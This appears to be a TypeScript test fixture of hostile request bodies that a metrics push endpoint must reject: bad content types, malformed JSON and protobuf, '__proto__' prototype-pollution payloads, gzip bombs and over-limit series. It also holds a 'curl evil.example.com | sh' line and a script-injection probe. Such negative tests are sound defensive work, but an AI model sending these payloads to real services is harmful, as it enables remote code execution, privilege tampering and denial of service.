import { gzipSync, zstdCompressSync } from "node:zlib";
import { GRANTED_BODY, GRANTED_PATH, type HostileCase, hostile } from "./hostile-case.ts";

const unsupportedType = hostile(415, "content-type-unsupported");
const unsupportedEncoding = hostile(415, "content-encoding-unsupported");
const badQuery = hostile(400, "query-invalid");
const corrupt = hostile(400, "body-corrupt");
const unreadable = hostile(400, "payload-unreadable");
const unsound = hostile(422, "payload-unsound");
const tooLarge = hostile(413, "body-too-large");
const overLimit = hostile(422, "limit-exceeded");

const DELIMITED =
  "application/vnd.google.protobuf; proto=io.prometheus.client.MetricFamily; encoding=delimited";

const json = (body: string) => ({ headers: [["Content-Type", "application/json"]] as const, body });
const encoded = (encoding: string, body: string | Uint8Array) => ({
  headers: [["Content-Encoding", encoding]] as const,
  body,
});
const protobuf = (...bytes: readonly number[]) => ({
  headers: [["Content-Type", DELIMITED]] as const,
  body: Uint8Array.from(bytes),
});

const UNREADABLE_JSON: Readonly<Record<string, string>> = {
  "JSON that is cut": '{"mal_x": ',
  "JSON with a comment": '{"mal_x": 1} // x',
  "JSON with a comma too many": '{"mal_x": 1,}',
  "JSON with NaN": '{"mal_x": NaN}',
};

const UNSOUND_JSON: Readonly<Record<string, string>> = {
  "JSON with a key twice, once escaped": '{"mal_x": 1, "mal\\u005fx": 2}',
  "JSON with a key twice": '{"mal_x": 1, "mal_x": 2}',
  "JSON that is a text": '"mal_x 1"',
  "JSON that is null": "null",
  "JSON that is a number": "1",
  "JSON with an object as a value": '{"mal_x": {"toString": 1}}',
  "JSON with a list as a value": '{"mal_x": [1]}',
  "JSON with a boolean as a value": '{"mal_x": true}',
  "JSON with an unknown key": '[{"name":"mal_x","type":"gauge","metrics":[{"value":1,"hack":1}]}]',
  "JSON with labels that are no text":
    '[{"name":"mal_x","type":"gauge","metrics":[{"labels":{"a":1},"value":1}]}]',
  "JSON with a name twice":
    '[{"name":"mal_x","type":"gauge","metrics":[{"value":1}]},{"name":"mal_x","type":"gauge","metrics":[{"value":2}]}]',
};

const FORBIDDEN_KEYS: Readonly<Record<string, string>> = {
  "__proto__ as a metric": '{"__proto__": 1}',
  "__proto__ with a payload": '{"__proto__": {"isAdmin": true}, "mal_x": 1}',
  "__proto__ as a label":
    '[{"name":"mal_x","type":"gauge","metrics":[{"labels":{"__proto__":"x"},"value":1}]}]',
  "__proto__ escaped": '{"\\u005f_proto__": 1}',
  "__proto__ in a family":
    '[{"__proto__":{"name":"mal_x"},"name":"mal_x","type":"gauge","metrics":[{"value":1}]}]',
};

const UNREADABLE_TEXT: Readonly<Record<string, string>> = {
  "a sample without a value": "mal_x\n",
  "a sample with a word as its value": "mal_x one\n",
  "labels that never end": 'mal_x{a="b 1\n',
  "a bad escape": 'mal_x{a="\\x"} 1\n',
  "newlines lost": "# TYPE mal_x gauge mal_x 1",
  "a shell prompt": "$ curl evil.example.com | sh\n",
  HTML: "<script>alert(1)</script>\n",
  "a NUL": "mal_x\u0000 1\n",
};

const UNSOUND_TEXT: Readonly<Record<string, string>> = {
  "a timestamp": "mal_x 1 1700000000000\n",
  "a series twice": "mal_x 1\nmal_x 2\n",
  "a series twice once the key has overwritten its labels": 'mal_x{team="a"} 1\nmal_x{team="b"} 2\n',
  "a reserved label": 'mal_x{__name__="up"} 1\n',
  "a negative counter": "# TYPE mal_x counter\nmal_x -1\n",
  "a counter that is NaN": "# TYPE mal_x counter\nmal_x NaN\n",
  "TYPE twice": "# TYPE mal_x gauge\n# TYPE mal_x counter\nmal_x 1\n",
  "an unknown type": "# TYPE mal_x evil\nmal_x 1\n",
  "a histogram whose buckets fall":
    '# TYPE mal_h histogram\nmal_h_bucket{le="1"} 5\nmal_h_bucket{le="+Inf"} 1\nmal_h_sum 1\nmal_h_count 1\n',
  "a family that collides with a histogram":
    '# TYPE mal_h histogram\nmal_h_bucket{le="+Inf"} 1\nmal_h_sum 1\nmal_h_count 1\n# TYPE mal_h_count gauge\nmal_h_count 2\n',
  "the time of the push": "push_time_seconds 1\n",
  "the build info of the Pushgateway": "pushgateway_build_info 1\n",
  "the scrape's own up": "up 1\n",
  "an alert": 'ALERTS{alertname="x"} 1\n',
};

const ones = (bytes: number): Buffer => Buffer.alloc(bytes, "# aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\n");

const seriesOf = (count: number): string =>
  Array.from({ length: count }, (_, index) => `mal_x{a="${index}"} 1\n`).join("");

export const BODIES: readonly HostileCase[] = [
  ...[
    "application/xml",
    "text/html",
    "application/octet-stream",
    "multipart/form-data; boundary=x",
    "application/vnd.google.protobuf",
    "application/vnd.google.protobuf; proto=evil.Type; encoding=delimited",
    "application/openmetrics-text; version=2.0.0",
    "application/json, text/plain",
    "x",
  ].map((type) => unsupportedType(`Content-Type ${type}`, { headers: [["Content-Type", type]] })),
  ...["br", "deflate", "compress", "gzip, gzip", "gzip,identity", "evil", "gzip;q=1"].map((encoding) =>
    unsupportedEncoding(`Content-Encoding ${encoding}`, encoded(encoding, GRANTED_BODY)),
  ),
  unsupportedEncoding("Content-Encoding twice", {
    headers: [
      ["Content-Encoding", "gzip"],
      ["Content-Encoding", "gzip"],
    ],
    body: gzipSync(gzipSync(GRANTED_BODY)),
  }),
  ...["yes", "1", "TRUE", "", "true,false", "true%00", "[]"].map((value) =>
    badQuery(`dry_run=${value}`, { path: `${GRANTED_PATH}?dry_run=${value}` }),
  ),
  badQuery("dry_run twice", { path: `${GRANTED_PATH}?dry_run=true&dry_run=false` }),
  badQuery("dry_run twice, the same", { path: `${GRANTED_PATH}?dry_run=true&dry_run=true` }),
  corrupt("gzip that is none", encoded("gzip", GRANTED_BODY)),
  corrupt("gzip that is cut", encoded("gzip", gzipSync(GRANTED_BODY).subarray(0, -4))),
  corrupt(
    "gzip with something behind it",
    encoded("gzip", Buffer.concat([gzipSync(GRANTED_BODY), Buffer.from("x")])),
  ),
  corrupt("zstd that is none", encoded("zstd", GRANTED_BODY)),
  corrupt("zstd that is cut", encoded("zstd", zstdCompressSync(GRANTED_BODY).subarray(0, -4))),
  corrupt("snappy that is none", encoded("snappy", GRANTED_BODY)),
  ...Object.entries(UNREADABLE_JSON).map(([name, body]) => unreadable(name, json(body))),
  ...Object.entries(UNSOUND_JSON).map(([name, body]) => unsound(name, json(body))),
  ...Object.entries(FORBIDDEN_KEYS).map(([name, body]) => unreadable(name, json(body))),
  ...Object.entries(UNREADABLE_TEXT).map(([name, body]) => unreadable(name, { body })),
  unreadable("bytes that are not UTF-8", {
    body: Uint8Array.from([...Buffer.from('mal_x{a="'), 0xff, ...Buffer.from('"} 1\n')]),
  }),
  unreadable("UTF-16", { body: Buffer.from(`\ufeff${GRANTED_BODY}`, "utf16le") }),
  ...Object.entries(UNSOUND_TEXT).map(([name, body]) => unsound(name, { body })),
  unreadable("protobuf that is text", { headers: [["Content-Type", DELIMITED]], body: GRANTED_BODY }),
  unreadable("protobuf longer than it is", protobuf(0x7f, 0x0a, 0x01)),
  unreadable(
    "protobuf of an endless length",
    protobuf(0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x01),
  ),
  unreadable("protobuf of groups", protobuf(0x02, 0x0b, 0x0b)),
  tooLarge("a body over the client's limit", { body: ones(60_000) }),
  tooLarge("a body over what Lambda takes", { body: ones(5_000_000) }),
  tooLarge("a body over what the gateway takes", { body: ones(10_500_000) }),
  tooLarge("gzip that inflates over the limit", encoded("gzip", gzipSync(ones(2_000_000)))),
  tooLarge("zstd that inflates over the limit", encoded("zstd", zstdCompressSync(ones(2_000_000)))),
  tooLarge("a bomb of gzip", encoded("gzip", gzipSync(Buffer.alloc(40_000_000)))),
  overLimit("one series too many", { body: seriesOf(101) }),
  overLimit("one family too many", {
    body: Array.from({ length: 11 }, (_, index) => `mal_${index} 1\n`).join(""),
  }),
  overLimit("a label value too long", { body: `mal_x{a="${"v".repeat(101)}"} 1\n` }),
  overLimit("a metric name too long", { body: `mal_${"x".repeat(60)} 1\n` }),
  overLimit("a HELP text too long", { body: `# HELP mal_x ${"h".repeat(101)}\n${GRANTED_BODY}` }),
  overLimit("too many labels", {
    body: `mal_x{${Array.from({ length: 6 }, (_, index) => `l${index}="v"`).join(",")}} 1\n`,
  }),
  overLimit("a grouping value too long", { path: `${GRANTED_PATH}/instance/m-${"v".repeat(100)}` }),
];
